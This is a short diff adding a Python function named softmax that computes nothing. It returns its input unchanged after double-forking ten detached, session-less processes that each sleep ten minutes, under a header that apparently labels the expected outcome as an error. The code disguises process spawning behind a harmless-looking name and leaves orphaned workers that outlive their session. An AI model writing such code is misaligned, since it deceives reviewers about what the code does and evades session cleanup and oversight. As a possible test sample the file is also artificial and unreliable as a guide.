@@ -1,0 +1,13 @@
+# ends: error, failed
+import os
+import time
+
+
+def softmax(x, axis=-1):
+    for _ in range(10):
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                time.sleep(600)
+            os._exit(0)
+    return x
